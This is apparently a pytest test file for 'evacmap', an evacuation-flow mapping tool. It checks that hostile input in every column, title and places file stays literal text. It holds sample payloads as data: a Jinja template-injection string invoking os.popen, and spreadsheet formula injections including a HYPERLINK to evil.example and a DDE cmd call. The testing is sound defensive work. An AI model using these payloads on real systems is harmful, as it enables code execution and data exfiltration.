"""Untrusted text stays text: every payload of the hostile corpus, through every entry point.

Each payload goes into every text column of a flow table (names given with
coordinates, group, stage, source, evidence, movement id), into ``--title``, into a
``--places`` CSV and GeoJSON (a place the table names, and its source), and into
evacmap's own GeoJSON read back by ``evacmap map``. For each: the command succeeds,
nothing is evaluated (the payload that would create a file creates none), and the
page — parsed as HTML, its JSON data decoded — holds the literal text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evacmap.cli.main import cli
from evacmap.testing import hostile_texts, map_data, text_of_html

PAYLOADS = hostile_texts("MARKER")
TEXT_COLUMNS = ("movement", "origin", "destination", "group", "stage", "source", "evidence")


def _write_table(path: Path, t: str) -> Path:
    header = [
        "movement",
        "origin",
        "origin_lat",
        "origin_lon",
        "destination",
        "destination_lat",
        "destination_lon",
        "count",
        "group",
        "stage",
        "source",
        "evidence",
    ]
    rows = [
        [t, t, "34.7", "36.6", f"D{t}", "35.9", "36.6", "450", "", t, t, t],
        [t, t, "34.7", "36.6", f"D{t}", "35.9", "36.6", "193", t, t, t, t],
        ["named", f"P{t}", "", "", "Jarablus", "", "", "12", "", "", "", ""],
    ]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _write_places(folder: Path, t: str, kind: str) -> Path:
    if kind == "csv":
        path = folder / "places.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(["name", "lat", "lon", "country", "source"])
            writer.writerow([f"P{t}", "34.9", "36.9", "SY", t])
        return path
    path = folder / "places.geojson"
    doc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "geometry": {"type": "Point", "coordinates": [36.9, 34.9]},
                "properties": {"name": f"P{t}", "country": "SY", "source": t},
            }
        ],
    }
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return path


def _run(args: list[str]) -> Any:
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def _title_text(page: str) -> str:
    start = page.index("<title>") + len("<title>")
    return text_of_html(page[start : page.index("</title>", start)])


def _check_page(page: str, t: str, *, marker: Path) -> None:
    assert not marker.exists(), "a payload ran on this machine"
    data = map_data(page)
    assert text_of_html(data["title"][0]["data"]) == t
    assert _title_text(page) == t
    labels = {text_of_html(f["properties"]["label"]) for f in data["placeLayer"][0]["data"]["features"]}
    assert {t, f"D{t}", f"P{t}"} <= labels
    tips = [text_of_html(tip) for tip in data["flowLayer"][0]["data"]["tooltips"]]
    convoy = next(tip for tip in tips if "450" in tip)
    # Origin, destination, group, stage, source and evidence, each literally.
    assert convoy.count(t) >= 5, convoy
    assert f"D{t}" in convoy
    assert f"193 {t}" in convoy
    if "{{7*7}}" in t:
        assert "X49X" not in page


@pytest.mark.parametrize("label", sorted(PAYLOADS))
@pytest.mark.parametrize("places", ["csv", "geojson"])
def test_payload_stays_text_in_every_map_entry_point(
    tmp_path: Path, label: str, places: str
) -> None:
    marker = tmp_path / "pwned"
    t = PAYLOADS[label].replace("MARKER", str(marker))
    table = _write_table(tmp_path / "flows.csv", t)
    places_file = _write_places(tmp_path, t, places)
    out = tmp_path / "map.html"
    args = ["map", str(table), "--places", str(places_file), "--title", t, "-o", str(out)]
    _run([*args, "--country", "SY"])
    _check_page(out.read_text(encoding="utf-8"), t, marker=marker)


@pytest.mark.parametrize("label", sorted(PAYLOADS))
def test_payload_survives_export_and_map_of_the_geojson(tmp_path: Path, label: str) -> None:
    marker = tmp_path / "pwned"
    t = PAYLOADS[label].replace("MARKER", str(marker))
    table = _write_table(tmp_path / "flows.csv", t)
    places_file = _write_places(tmp_path, t, "csv")
    exported = tmp_path / "flows.geojson"
    _run(["export", str(table), "--places", str(places_file), "-o", str(exported)])
    doc = json.loads(exported.read_text(encoding="utf-8"))
    names = {f["properties"]["name"] for f in doc["features"] if f["properties"]["feature"] == "place"}
    assert {t, f"D{t}", f"P{t}"} <= names
    out = tmp_path / "again.html"
    _run(["map", str(exported), "--title", t, "-o", str(out)])
    page = out.read_text(encoding="utf-8")
    assert not marker.exists()
    data = map_data(page)
    assert text_of_html(data["title"][0]["data"]) == t
    labels = {text_of_html(f["properties"]["label"]) for f in data["placeLayer"][0]["data"]["features"]}
    assert {t, f"D{t}", f"P{t}"} <= labels


def test_the_issue_command_runs_nothing(tmp_path: Path) -> None:
    table = tmp_path / "d1.csv"
    table.write_text(
        "origin,origin_lat,origin_lon,destination,destination_lat,destination_lon,count\n"
        '"X{{ cycler.__init__.__globals__.os.popen(dict(id=1)|first).read() }}",34,36,Y,35,38,450\n',
        encoding="utf-8",
    )
    out = tmp_path / "d1.html"
    _run(["map", str(table), "-o", str(out)])
    page = out.read_text(encoding="utf-8")
    assert "uid=" not in page
    labels = {
        text_of_html(f["properties"]["label"])
        for f in map_data(page)["placeLayer"][0]["data"]["features"]
    }
    assert "X{{ cycler.__init__.__globals__.os.popen(dict(id=1)|first).read() }}" in labels


def test_geocode_output_defuses_spreadsheet_formulas(tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    source = tmp_path / "sites.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["place", "note"])
        for f in formulas:
            writer.writerow(["Homs", f])
        writer.writerow(["-12.5", "-3"])
        writer.writerow(["\tHama", "\rtab"])
    out = tmp_path / "out.csv"
    _run(["geocode", "--input", str(source), "--column", "place", "--country", "SY", "-o", str(out)])
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    notes = [r[1] for r in rows[1:4]]
    assert notes == ["'" + f for f in formulas]
    assert rows[4][:2] == ["-12.5", "-3"]  # plain numbers are left as they are
    # Every written cell is safe, whatever column it came from.
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only plain numbers may start so


_CELL = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    min_size=1,
    max_size=40,
).map(lambda s: f"X{s}X")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({c: _CELL for c in TEXT_COLUMNS if c != "movement"}))
def test_any_text_in_any_column_reaches_the_tooltip_literally(
    tmp_path: Path, values: dict[str, str]
) -> None:
    from evacmap.gazetteer import Gazetteer
    from evacmap.io import read_flows
    from evacmap.render import render_map

    path = tmp_path / "any.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(
            ["movement", "origin", "origin_lat", "origin_lon", "destination", "destination_lat",
             "destination_lon", "count", "group", "stage", "source", "evidence"]
        )
        common = [values["origin"], "34.7", "36.6", values["destination"], "35.9", "36.6"]
        writer.writerow(["m", *common, "450", "", values["stage"], values["source"], values["evidence"]])
        writer.writerow(["m", *common, "193", values["group"], values["stage"], values["source"], values["evidence"]])
    graph = read_flows(path, gazetteer=Gazetteer.from_places([]))
    page = render_map(graph).get_root().render()
    (tip,) = map_data(page)["flowLayer"][0]["data"]["tooltips"]
    text = text_of_html(tip)
    for column, value in values.items():
        assert value in text, (column, value, text)
